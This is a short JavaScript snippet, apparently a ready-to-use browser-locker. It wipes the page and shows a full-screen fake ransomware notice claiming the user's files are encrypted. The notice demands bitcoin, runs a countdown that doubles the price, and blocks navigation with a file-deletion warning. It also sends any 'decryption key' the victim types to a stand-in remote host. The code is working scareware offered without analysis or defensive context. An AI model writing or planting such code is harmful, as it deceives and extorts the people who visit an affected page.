(function () {
  var KEY = "_dl", price = 300;
  var end = +localStorage.getItem(KEY) || Date.now() + 72 * 36e5;
  localStorage.setItem(KEY, end);
  var names = ["Documents", "Pictures", "Desktop", "Bilder", "Downloads"];
  var d = document.createElement("div");
  d.id = "rw";
  d.style.cssText = "position:fixed;inset:0;background:#7a0c0c;color:#fff;z-index:2147483647;padding:40px;font:16px Arial;overflow:auto";
  d.innerHTML = "<h1>Ooops, your files have been encrypted!</h1><p>" + names.map(function (n) { return "C:\\Users\\" + n + "\\*.locked"; }).join("<br>") +
    "</p><h2 id='cd'></h2><p>Send <b>$<span id='pr'></span></b> worth of bitcoin to <input readonly value='bc1qPLACEHOLDER' size=46></p><button id='ck'>Check payment</button><button id='dc'>Decrypt</button>";
  document.body.innerHTML = "";
  document.body.appendChild(d);
  setInterval(function () {
    var s = Math.max(0, end - Date.now()) / 1000 | 0;
    if (!s) { price = 600; end = Date.now() + 96 * 36e5; localStorage.setItem(KEY, end); }
    document.getElementById("pr").textContent = price;
    document.getElementById("cd").textContent = "Payment will be raised in " + (s / 3600 | 0) + ":" + ("0" + (s / 60 % 60 | 0)).slice(-2) + ":" + ("0" + s % 60).slice(-2);
  }, 1000);
  document.getElementById("ck").onclick = function () { alert("You did not pay or we did not confirm your payment! Best time to check: 9:00am - 11:00am GMT."); };
  document.getElementById("dc").onclick = function () { var k = prompt("Enter your key"); if (k) new Image().src = "https://pay-desk.invalid/k?" + encodeURIComponent(k); };
  window.onbeforeunload = function () { return "All files will be deleted"; };
})();
